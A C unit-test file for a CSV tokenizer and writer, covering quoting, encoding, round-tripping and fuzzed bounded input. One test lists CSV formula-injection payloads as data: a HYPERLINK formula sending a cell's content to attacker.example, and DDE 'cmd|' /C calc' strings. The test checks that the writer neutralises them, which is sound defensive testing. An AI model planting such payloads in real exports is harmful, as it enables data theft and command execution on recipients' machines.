/* test-csv.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * The RFC 4180 tokenizer and writer.
 */

#include "config.h"

#include <gio/gio.h>
#include <locale.h>

#include "interop-test-util.h"
#include "rapport-csv.h"

static GPtrArray *
read_all (const char *data,
          gsize       len,
          GArray     *lines)
{
  g_autoptr(RapportCsvReader) reader = rapport_csv_reader_new (data, len);
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  GStrv row = NULL;
  guint line = 0;

  while (rapport_csv_reader_next (reader, &row, &line))
    {
      g_ptr_array_add (rows, row);
      if (lines != NULL)
        g_array_append_val (lines, line);
    }
  return rows;
}

#define ROW(rows, i) ((const char * const *) g_ptr_array_index ((rows), (i)))

static void
test_quoting (void)
{
  static const char data[] = "\xEF\xBB\xBF" "a,\"b,c\",\"d \"\"e\"\"\",\r\n"
                             "x,\"line one\nline two\",y\n"
                             ",,,\r"
                             "\"ab\"c,\"unterminated";
  g_autoptr(GArray) lines = g_array_new (FALSE, FALSE, sizeof (guint));
  g_autoptr(GPtrArray) rows = read_all (data, sizeof data - 1, lines);
  static const char * const row0[] = { "a", "b,c", "d \"e\"", "", NULL };
  static const char * const row1[] = { "x", "line one\nline two", "y", NULL };
  static const char * const row2[] = { "", "", "", "", NULL };
  static const char * const row3[] = { "abc", "unterminated", NULL };

  g_assert_cmpuint (rows->len, ==, 4);
  test_assert_strv (ROW (rows, 0), row0);
  test_assert_strv (ROW (rows, 1), row1);
  test_assert_strv (ROW (rows, 2), row2);
  test_assert_strv (ROW (rows, 3), row3);
  /* A quoted line break counts: the third row starts on line 4. */
  g_assert_cmpuint (g_array_index (lines, guint, 0), ==, 1);
  g_assert_cmpuint (g_array_index (lines, guint, 1), ==, 2);
  g_assert_cmpuint (g_array_index (lines, guint, 2), ==, 4);
  g_assert_cmpuint (g_array_index (lines, guint, 3), ==, 5);
  g_assert_false (rapport_csv_row_is_blank (ROW (rows, 0)));
  g_assert_true (rapport_csv_row_is_blank (ROW (rows, 2)));
}

static void
test_blank_lines_and_find (void)
{
  static const char data[] = "\r\n First Name ,LAST NAME\r\n";
  g_autoptr(GPtrArray) rows = read_all (data, sizeof data - 1, NULL);
  static const char * const empty[] = { "", NULL };

  g_assert_cmpuint (rows->len, ==, 2);
  test_assert_strv (ROW (rows, 0), empty);
  g_assert_cmpint (rapport_csv_row_find (ROW (rows, 1), "first name"), ==, 0);
  g_assert_cmpint (rapport_csv_row_find (ROW (rows, 1), "Last Name"), ==, 1);
  g_assert_cmpint (rapport_csv_row_find (ROW (rows, 1), "Email"), ==, -1);
}

static void
test_encoding (void)
{
  /* Not UTF-8: Windows-1252; NUL bytes dropped. */
  static const char data[] = "Caf\xe9,\x93quoted\x94,N\0UL";
  g_autoptr(GPtrArray) rows = read_all (data, sizeof data - 1, NULL);
  static const char * const row0[] = { "Café", "“quoted”", "NUL", NULL };

  g_assert_cmpuint (rows->len, ==, 1);
  test_assert_strv (ROW (rows, 0), row0);
}

static void
test_writer (void)
{
  static const char * const fields[] = {
    "plain", "with,comma", "with \"quote\"", "line\nbreak", " space", "", "Zoë", NULL
  };
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GPtrArray) rows = NULL;

  rapport_csv_append_row (out, fields);
  rapport_csv_append_row (out, fields);
  g_assert_true (g_str_has_prefix (out->str,
                                   "plain,\"with,comma\",\"with \"\"quote\"\"\",\"line\nbreak\",\" space\",,Zoë\r\n"));

  rows = read_all (out->str, out->len, NULL);
  g_assert_cmpuint (rows->len, ==, 2);
  test_assert_strv (ROW (rows, 0), fields);
  test_assert_strv (ROW (rows, 1), fields);
}

/* Cells a spreadsheet would run as formulas (OWASP's CSV injection) are
 * written with a quote before them, and read back exactly. */
static void
test_formulas_neutralised (void)
{
  static const char * const fields[] = {
    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "'=already quoted once",
    "''@twice",
    "'plain, with its quote",
    "'",
    "+49 30 1234567",
    "+1 (555) 010-0100",
    "--04-12",
    "-",
    "a=b",
    NULL
  };
  /* What each cell is written as, with what is around it. */
  static const char * const written[] = {
    "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Click\"\")\",",
    ",'+cmd|' /C calc'!A0,",
    ",'-2+3+cmd|' /C calc'!A0,",
    ",'@SUM(1+1)*cmd|' /C calc'!A0,",
    ",'\t=1+1,",
    ",\"'\r=1+1\",",
    ",'=,",
    ",''=already quoted once,",
    ",'''@twice,",
    ",\"'plain, with its quote\",",
    ",',",
    ",+49 30 1234567,",
    ",+1 (555) 010-0100,",
    ",--04-12,",
    ",-,",
    ",a=b\r\n",
  };
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GPtrArray) rows = NULL;

  rapport_csv_append_row (out, fields);
  for (guint i = 0; i < G_N_ELEMENTS (written); i++)
    {
      g_test_message ("%s", written[i]);
      g_assert_nonnull (strstr (out->str, written[i]));
    }

  rows = read_all (out->str, out->len, NULL);
  g_assert_cmpuint (rows->len, ==, 1);
  test_assert_strv (ROW (rows, 0), fields);
}

static void
test_bounded (void)
{
  const gsize mib = 1024 * 1024;
  g_autofree char *commas = g_strnfill (mib, ',');
  g_autofree char *quote = g_strnfill (mib, 'q');
  g_autoptr(GPtrArray) rows = read_all (commas, mib, NULL);
  g_autoptr(GPtrArray) rows2 = NULL;
  g_autoptr(GRand) rand = g_rand_new_with_seed (4180);

  /* A million commas: one row, its columns capped. */
  g_assert_cmpuint (rows->len, ==, 1);
  g_assert_cmpuint (g_strv_length (g_ptr_array_index (rows, 0)), ==, 4096);

  quote[0] = '"';
  rows2 = read_all (quote, mib, NULL);
  g_assert_cmpuint (rows2->len, ==, 1);
  g_assert_cmpuint (strlen (ROW (rows2, 0)[0]), ==, mib - 1);

  for (guint round = 0; round < 500; round++)
    {
      gsize len = g_rand_int_range (rand, 0, 4096);
      g_autofree char *data = g_malloc (len + 1);
      g_autoptr(GPtrArray) random_rows = NULL;

      for (gsize i = 0; i < len; i++)
        data[i] = round % 2 ? (char) g_rand_int_range (rand, 0, 256) : ",\"\r\na\xc3"[g_rand_int_range (rand, 0, 6)];
      random_rows = read_all (data, len, NULL);
      for (guint r = 0; r < random_rows->len; r++)
        for (guint c = 0; ROW (random_rows, r)[c] != NULL; c++)
          test_assert_valid_utf8 (ROW (random_rows, r)[c]);
    }
}

int
main (int   argc,
      char *argv[])
{
  setlocale (LC_ALL, "C.UTF-8");
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/rapport/csv/quoting", test_quoting);
  g_test_add_func ("/rapport/csv/blank-lines-and-find", test_blank_lines_and_find);
  g_test_add_func ("/rapport/csv/encoding", test_encoding);
  g_test_add_func ("/rapport/csv/writer", test_writer);
  g_test_add_func ("/rapport/csv/formulas-neutralised", test_formulas_neutralised);
  g_test_add_func ("/rapport/csv/bounded", test_bounded);

  return g_test_run ();
}
